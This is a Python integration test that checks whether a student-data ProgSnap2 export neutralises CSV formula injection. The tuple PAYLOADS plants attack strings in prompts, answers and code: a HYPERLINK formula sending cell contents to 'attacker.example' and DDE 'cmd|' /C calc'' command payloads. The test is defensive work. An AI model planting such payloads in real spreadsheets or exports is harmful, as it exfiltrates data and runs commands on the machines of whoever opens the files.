"""CSV injection: students' prompts, code and answers that a spreadsheet would run as formulas.

A seeded cohort gets formula payloads planted in prompts, answers and cell code; the real
`ainative export progsnap2` writes them, the independent reader must recover them exactly,
and no cell of any file may start a formula when a spreadsheet opens it.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text

from ainative.cli import main as cli_main
from analytics.synth import CohortSpec, generate
from analytics.synth_write import write
from tests.progsnap2_reader import check, read_rows
from tests.spreadsheet import formula_cells, runs_as_formula

pytestmark = pytest.mark.integration

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "'=1+1",  # a genuine leading apostrophe before a formula
    "''already quoted",
    "'",
)


def _plant(database_url: str) -> None:
    """One payload per prompt, answer and cell run, on the first rows of the cohort."""
    engine = create_engine(database_url)
    with engine.begin() as conn:
        asks = conn.execute(
            text("SELECT id FROM interactions WHERE status = 'done' ORDER BY created_at, id")
        ).scalars()
        runs = conn.execute(
            text(
                "SELECT id FROM events WHERE event_type = 'cell.executed' ORDER BY occurred_at, id"
            )
        ).scalars()
        asks, runs = list(asks)[: len(PAYLOADS)], list(runs)[: len(PAYLOADS)]
        assert len(asks) == len(runs) == len(PAYLOADS)
        for payload, ask, run in zip(PAYLOADS, asks, runs, strict=True):
            conn.execute(
                text("UPDATE interactions SET prompt = :p, answer = :p WHERE id = :id"),
                {"p": payload, "id": ask},
            )
            conn.execute(
                text(
                    "UPDATE events SET payload = jsonb_set(payload, '{code}', CAST(:c AS jsonb)) "
                    "WHERE id = :id"
                ),
                {"c": json.dumps(payload), "id": run},
            )
    engine.dispose()


def _export(database_url: str, out: Path) -> None:
    from ainative.config import get_settings

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DATABASE_URL", database_url)
        mp.setenv("PSEUDONYM_KEY", "test-pseudonym-key")
        get_settings.cache_clear()
        try:
            argv = ["export", "progsnap2", "--out", str(out), "--text", "keep", "--no-progress"]
            assert cli_main(argv) == 0
        finally:
            get_settings.cache_clear()


def test_attack_formulas_in_prompts_code_and_answers_do_not_run_in_a_spreadsheet(
    fresh_database_url: str, tmp_path: Path
) -> None:
    spec = CohortSpec(
        students=10,
        days=7,
        seed=4,
        consent_rate=1.0,
        tutor_use_rate=1.0,
        end=datetime(2026, 5, 1, tzinfo=UTC),
    )
    write(generate(spec), fresh_database_url, password_hash="$2b$04$" + "z" * 53)
    _plant(fresh_database_url)
    out = tmp_path / "export"
    _export(fresh_database_url, out)

    assert check(out) == []
    _, main = read_rows(out / "MainTable.csv")
    _, codes = read_rows(out / "CodeStates" / "CodeStates.csv")
    assert set(PAYLOADS) <= {r["X-HelpMessage"] for r in main}  # recovered exactly
    assert set(PAYLOADS) <= {r["InterventionMessage"] for r in main}
    assert set(PAYLOADS) <= {r["Code"] for r in codes}

    files = sorted(out.rglob("*.csv"))
    assert {f.name for f in files} >= {"MainTable.csv", "CodeStates.csv", "codebook.csv"}
    for path in files:  # as a spreadsheet opens them
        assert formula_cells(path.read_bytes().decode("utf-8")) == [], path.name
    assert all(runs_as_formula(p) for p in PAYLOADS[:7])  # the judge sees the raw payloads
